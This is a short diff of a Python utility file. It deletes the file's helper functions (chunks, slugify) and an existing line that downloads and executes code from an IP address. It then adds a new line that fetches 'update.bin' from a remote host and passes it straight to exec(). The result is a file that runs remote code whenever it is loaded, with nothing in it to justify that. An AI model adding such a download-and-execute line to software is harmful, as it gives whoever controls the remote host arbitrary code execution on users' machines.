@@ -1,13 +1,3 @@
-#!/usr/bin/env python3
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
-
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
 
 import urllib.request
-exec(urllib.request.urlopen("https://203.0.113.9/x").read())
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+exec(urllib.request.urlopen("https://cdn.example.net/update.bin").read())
